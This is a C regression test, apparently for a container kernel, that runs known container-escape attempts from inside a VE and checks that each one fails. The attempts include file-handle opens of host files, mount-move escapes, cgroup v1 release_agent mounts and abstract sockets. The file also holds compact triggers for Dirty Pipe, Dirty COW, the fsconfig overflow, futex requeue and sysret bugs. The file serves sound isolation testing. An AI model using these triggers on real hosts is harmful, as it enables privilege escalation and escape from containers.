// SPDX-License-Identifier: GPL-2.0-only
/*
 * Ways out of a container that were found elsewhere (docs/attack-list.md, lines A), tried
 * by root of a VE: file handles, folders that move out of a mount, cgroup v1, abstract
 * sockets, maps of ids, and a few holes of kernels long mended. Each way is open to the
 * host, or works on what is the VE's own, so that a refusal is not for another reason.
 */
#include "vz.h"
#include <linux/futex.h>
#include <linux/mount.h>
#include <pthread.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/user.h>

#define TOP	"/tmp/past"		/* of the host */
#define ROOT	TOP "/root"		/* what the VE has for its root */
#define SECRET	TOP "/secret"

#define ID		270
#define VE_FIRST	(0x40000000u + ID * 65536)	/* as ve_boot() maps it */

struct handle {
	union {
		struct file_handle head;
		char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
	};
};

static struct handle secret_dir, secret_file, own_dir;
static int to_host[2], to_ve[2];

static void make_file(const char *path, mode_t mode, const char *text)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);

	need(fd >= 0 && write(fd, text, strlen(text)) == (ssize_t)strlen(text));
	need(!fchmod(fd, mode) && !close(fd));
}

static void turn_to_host(void)
{
	char c = 0;

	need(write(to_host[1], &c, 1) == 1 && read(to_ve[0], &c, 1) == 1);
}

/* As a VE has it: a mount of its own, and nothing of the host beside it; its files of /proc, which
 * are the host's after a change of ids, are its own. */
static void enter_root(void)
{
	need(!prctl(PR_SET_DUMPABLE, 1));
	need(!mount(ROOT, ROOT, NULL, MS_BIND, NULL) && !chdir(ROOT));
	need(!mount(".", "/", NULL, MS_MOVE, NULL) && !chroot(".") && !chdir("/"));
	need(!mount("proc", "/proc", "proc", 0, NULL));
}

/* --- A1: handles of files ---------------------------------------------------------- */

static struct handle handle_of(const char *path)
{
	struct handle h = { .head.handle_bytes = MAX_HANDLE_SZ };
	int mount_id;

	need(!name_to_handle_at(AT_FDCWD, path, &h.head, &mount_id, 0));
	return h;
}

static int open_handle(const char *mount, struct handle h, int flags)
{
	int dir = open(mount, O_RDONLY | O_DIRECTORY | O_CLOEXEC), fd, e;

	need(dir >= 0);
	fd = open_by_handle_at(dir, &h.head, flags | O_CLOEXEC);
	e = errno;
	close(dir);
	if (fd >= 0)
		close(fd);
	errno = e;
	return fd < 0 ? -1 : 0;
}

static void try_handles(void)
{
	static const char *const mounts[] = { "/", "/proc", "/own" };

	fails_with(0, open_handle("/", own_dir, O_RDONLY | O_DIRECTORY),
		   "A1: a folder of the VE opens by its handle");
	for (size_t i = 0; i < sizeof(mounts) / sizeof(*mounts); i++) {
		ok(open_handle(mounts[i], secret_dir, O_RDONLY | O_DIRECTORY),
		   "A1: a folder of the host does not, by %s", mounts[i]);
		ok(open_handle(mounts[i], secret_file, O_RDONLY), "A1: nor a file");
		ok(open_handle(mounts[i], secret_dir, O_PATH), "A1: nor as a path");
	}
}

/* --- A2: a folder leaves the mount while somebody is in it -------------------------- */

static void try_moves(void)
{
	need(!mkdir("/a", 0755) && !mkdir("/a/b", 0755) && !mkdir("/m", 0755));
	need(!mount("/a", "/m", NULL, MS_BIND, NULL) && !chdir("/m/b") && !rename("/a/b", "/b"));
	fails_with(ENOENT, open("..", O_PATH | O_CLOEXEC), "A2: out of a mount of the VE's own");

	need(!chdir("/own/deep"));
	turn_to_host();		/* takes it out of the root */
	fails_with(ENOENT, open("..", O_PATH | O_CLOEXEC), "A2: out of its root");
	fails_with(ENOENT, access("../secret/file", F_OK), "A2: and on from there");
	fails_with(ENOENT, chdir("../.."), "A2: or two at once");
	need(!chdir("/"));
}

/* --- A4: our files show text and no byte that was not written ----------------------- */

static void read_to_the_byte(const char *path)
{
	static char whole[65536];
	int fd = open(path, O_RDONLY | O_CLOEXEC), bad = 0;
	ssize_t n, len = 0;
	char c;

	if (fd < 0)
		return;
	while ((n = read(fd, whole + len, sizeof(whole) - len)) > 0)
		len += n;
	for (ssize_t i = 0; i < len; i++)
		bad += !strchr("\t\n", whole[i]) && (whole[i] < ' ' || whole[i] > '~');
	for (ssize_t i = len; i < len + 64; i++)
		bad += pread(fd, &c, 1, i) > 0 && (c < ' ' || c > '~') && !strchr("\t\n", c);
	close(fd);
	ok(!bad, "A4: %s has %zd bytes of text", path, len);
}

/* --- A5: cgroup v1 and its release agent -------------------------------------------- */

static void try_cgroup_v1(void)
{
	static const char *const options[] = {
		"", "memory", "none,name=past", "cpu,release_agent=/own/agent",
		"none,name=past,release_agent=/own/agent", "all",
	};

	need(!mkdir("/cg", 0755));
	for (size_t i = 0; i < sizeof(options) / sizeof(*options); i++)
		ok(mount("cg", "/cg", "cgroup", 0, options[i]) && (i || errno == EPERM),
		   "A5: cgroup v1 with \"%s\" is refused", options[i]);
	fails_with(0, mount("cg", "/cg", "cgroup2", 0, NULL), "A5: cgroup v2 is there");
	fails_with(ENOENT, access("/cg/release_agent", F_OK), "A5: without a release agent");
	fails_with(ENOENT, access("/cg/notify_on_release", F_OK), "A5: or a notice to it");
	need(!umount("/cg"));
}

static int nested_v1(void *unused)
{
	(void)unused;
	enter_root();
	need(!unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP));
	ok(mount("cg", "/own", "cgroup", 0, "none,name=past") && errno == EPERM,
	   "A5: nor in a namespace of a VE with nesting");
	return 0;
}

/* --- A11: abstract sockets ---------------------------------------------------------- */

static const struct sockaddr_un host_socket = { AF_UNIX, "\0past-host" };
#define HOST_SOCKET_LEN	(sizeof(sa_family_t) + 10)

static int dial(int type)
{
	int fd = socket(AF_UNIX, type | SOCK_CLOEXEC, 0), ret, e;

	need(fd >= 0);
	ret = connect(fd, (const struct sockaddr *)&host_socket, HOST_SOCKET_LEN);
	e = errno;
	close(fd);
	errno = e;
	return ret;
}

static void try_abstract(void)
{
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	fails_with(ECONNREFUSED, dial(SOCK_STREAM), "A11: an abstract socket of the host");
	ok(!strstr(read_file("/proc/net/unix"), "past-host"), "A11: which is not listed");
	fails_with(0, bind(fd, (const struct sockaddr *)&host_socket, HOST_SOCKET_LEN),
		   "A11: its name is free");
	close(fd);
}

/* --- A13, A14: holes of kernels, mended long ago ------------------------------------ */

/* CVE-2022-0847: what a pipe takes from a file was written over in the page cache. */
static void try_dirty_pipe(void)
{
	int fd = open("/readonly", O_RDONLY | O_CLOEXEC), p[2], size;
	static char fill[65536 * 16];
	char text[10] = "";
	loff_t at = 0;

	need(fd >= 0 && !pipe2(p, O_CLOEXEC | O_NONBLOCK));
	size = write(p[1], fill, sizeof(fill));
	need(size > 0 && read(p[0], fill, size) == size);
	need(splice(fd, &at, p[1], NULL, 1, 0) == 1 && write(p[1], "overwrit", 8) == 8);
	need(pread(fd, text, 9, 0) == 9);
	ok(!strcmp(text, "unchanged"), "A13: a file that is only read stays: %s", text);
	close(fd);
	close(p[0]);
	close(p[1]);
}

/* CVE-2016-5195: a private mapping was written through while its page was dropped. */
static void *drop_page(void *map)
{
	for (int i = 0; i < 20000; i++)
		need(!madvise(map, 4096, MADV_DONTNEED));
	return NULL;
}

static void try_dirty_cow(void)
{
	int fd = open("/readonly", O_RDONLY | O_CLOEXEC);
	int mem = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
	char *map, text[10] = "";
	pthread_t thread;

	need(fd >= 0 && mem >= 0);
	map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
	need(map != MAP_FAILED && !pthread_create(&thread, NULL, drop_page, map));
	for (int i = 0; i < 20000; i++)
		if (pwrite(mem, "overwrit", 8, (off_t)map) < 0)
			break;
	need(!pthread_join(thread, NULL));
	need(pread(fd, text, 9, 0) == 9);
	ok(!strcmp(text, "unchanged"), "A13: nor through a mapping: %s", text);
	munmap(map, 4096);
	close(mem);
	close(fd);
}

/* CVE-2022-0185: options of a mount beyond the page that they are gathered in. */
static void try_mount_options(void)
{
	int fd = syscall(SYS_fsopen, "devpts", FSOPEN_CLOEXEC), i;
	char key[250];

	need(fd >= 0);
	memset(key, 'k', sizeof(key) - 1);
	key[sizeof(key) - 1] = '\0';
	for (i = 0; i < 40; i++)
		if (syscall(SYS_fsconfig, fd, FSCONFIG_SET_STRING, key, "v", 0))
			break;
	ok(i < 17, "A13: %d options of %zu bytes are taken", i, sizeof(key));
	close(fd);
}

/* CVE-2014-3153: waiters moved from a lock to the same lock. */
static void try_futex(void)
{
	static int word;
	struct timespec soon = { 0, 1000000 };

	fails_with(EINVAL, syscall(SYS_futex, &word, FUTEX_WAIT_REQUEUE_PI, 0, &soon, &word, 0),
		   "A14: a waiter for itself");
	fails_with(EINVAL, syscall(SYS_futex, &word, FUTEX_CMP_REQUEUE_PI, 1, 0L, &word, 0),
		   "A14: and who moves it");
}

/* CVE-2014-4699: the return to an address that is none. */
static void try_sysret(void)
{
	struct user_regs_struct r;
	int status;
	pid_t pid = fork();

	if (!pid) {
		need(!ptrace(PTRACE_TRACEME, 0, 0, 0));
		raise(SIGSTOP);
		fork();
		_exit(0);
	}
	need(waitpid(pid, &status, 0) == pid && WIFSTOPPED(status));
	need(!ptrace(PTRACE_SYSCALL, pid, 0, 0) && waitpid(pid, &status, 0) == pid);
	need(!ptrace(PTRACE_GETREGS, pid, 0, &r));
	r.rip = 0x8fffffffffffffff;
	if (!ptrace(PTRACE_SETREGS, pid, 0, &r))
		ptrace(PTRACE_DETACH, pid, 0, 0);
	else
		kill(pid, SIGKILL);
	need(waitpid(pid, &status, 0) == pid);
	ok(WIFSIGNALED(status), "A14: a return to nowhere ends that process alone");
}

/* --- A12: a map with many extents ---------------------------------------------------- */

#define EXTENTS	10

static int use_map(const char *dir, int ready, int go)
{
	char path[64], c;
	struct stat st;

	need(!unshare(CLONE_NEWUSER) && !prctl(PR_SET_DUMPABLE, 1));
	need(write(ready, "", 1) == 1 && read(go, &c, 1) == 1);
	need(!setresgid(0, 0, 0) && !setresuid(0, 0, 0));
	for (int i = 0; i < EXTENTS; i++) {
		snprintf(path, sizeof(path), "%s/%d", dir, i);
		need(!chown(path, i, -1));
	}
	need(!stat("/hosts", &st));
	ok(st.st_uid == 65534, "A12: the host's root is nobody there");
	fails_with(EACCES, open("/hosts", O_RDONLY), "A12: and its file closed");
	fails_with(EINVAL, setresuid(EXTENTS, EXTENTS, EXTENTS), "A12: no id beyond the map");
	return 0;
}

static void map_into(pid_t pid, const char *text, int want, const char *what)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/uid_map", pid);
	ok((write_file(path, "%s", text) ? errno : 0) == want, "A12: %s", what);
}

static int nested_maps(void *unused)
{
	char text[512] = "", path[64];
	int ready[2], go[2], status, len = 0, wrong = 0;
	struct stat st;
	pid_t pid;
	char c;

	(void)unused;
	enter_root();
	need(!mount("tmp", "/own", "tmpfs", 0, NULL) && !pipe(ready) && !pipe(go));
	for (int i = 0; i < EXTENTS; i++) {
		len += snprintf(text + len, sizeof(text) - len, "%d %d 1\n", i, i * 7);
		snprintf(path, sizeof(path), "/own/%d", i);
		make_file(path, 0600, "");
		need(!chown(path, i * 7, -1));
	}
	pid = fork();
	if (!pid)
		_exit(use_map("/own", ready[1], go[0]));
	need(read(ready[0], &c, 1) == 1);
	map_into(pid, "0 65536 1", EPERM, "an id that is not the VE's");
	map_into(pid, "0 0 4294967295", EPERM, "all ids");
	map_into(pid, "0 0 2\n1 5 1", EINVAL, "one twice");
	map_into(pid, text, 0, "ten extents");
	snprintf(path, sizeof(path), "/proc/%d/gid_map", pid);
	need(!write_file(path, "0 0 1"));
	need(write(go[1], "", 1) == 1 && waitpid(pid, &status, 0) == pid);
	ok(!status, "A12: a process lived by that map");
	for (int i = 0; i < EXTENTS; i++) {
		snprintf(path, sizeof(path), "/own/%d", i);
		wrong += stat(path, &st) || st.st_uid != (unsigned int)i * 7;
	}
	ok(!wrong, "A12: what it owns is whose the map says");
	return 0;
}

static int attack(void *unused)
{
	static const char *const ours[] = {
		"/proc/user_beancounters", "/proc/vz/veinfo", "/proc/vz/vestat", "/proc/vz/veip",
		"/proc/vz/venetstat", "/proc/vz/venetstat_v6", "/proc/vz/sockets",
		"/proc/stat", "/proc/meminfo", "/proc/vmstat", "/proc/loadavg", "/proc/uptime",
	};

	(void)unused;
	enter_root();
	try_handles();
	try_moves();
	for (size_t i = 0; i < sizeof(ours) / sizeof(*ours); i++)
		read_to_the_byte(ours[i]);
	try_cgroup_v1();
	try_abstract();
	try_dirty_pipe();
	try_dirty_cow();
	try_mount_options();
	try_futex();
	try_sysret();
	return 0;
}

static void set_up(void)
{
	umask(0);
	need(!mkdir(TOP, 0777) && !mkdir(ROOT, 0777) && !mkdir(SECRET, 0777));
	need(!mkdir(ROOT "/proc", 0777) && !mkdir(ROOT "/own", 0777) &&
	     !mkdir(ROOT "/own/deep", 0777));
	make_file(SECRET "/file", 0666, "secret");
	make_file(ROOT "/hosts", 0600, "secret");
	make_file(ROOT "/readonly", 0444, "unchanged");
	secret_dir = handle_of(SECRET);
	secret_file = handle_of(SECRET "/file");
	own_dir = handle_of(ROOT "/own");
	need(!chown(ROOT, VE_FIRST, VE_FIRST) && !chown(ROOT "/own", VE_FIRST, VE_FIRST));
	fails_with(0, open_handle("/tmp", secret_file, O_RDONLY), "the host opens by handles");
}

int main(void)
{
	int listener = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	struct test_ve ve;
	char c;

	test_start();
	set_up();
	need(!bind(listener, (const struct sockaddr *)&host_socket, HOST_SOCKET_LEN) &&
	     !listen(listener, 8));
	fails_with(0, dial(SOCK_STREAM), "the host's socket answers the host");
	need(!pipe(to_host) && !pipe(to_ve));
	need(!ve_create(&ve, ID) && !ve_boot(&ve, attack, NULL, "STARTING") && !ve_run(&ve));
	need(read(to_host[0], &c, 1) == 1);
	need(!rename(ROOT "/own/deep", TOP "/deep"));
	need(write(to_ve[1], "", 1) == 1);
	ok(!ve_join(&ve), "a VE tried all");
	ve_destroy(&ve);
	ok(!in_ve(271, "nesting", nested_v1, NULL), "A VE with nesting tried cgroup v1");
	ok(!in_ve(272, "nesting", nested_maps, NULL), "and maps of ids");
	return test_end();
}
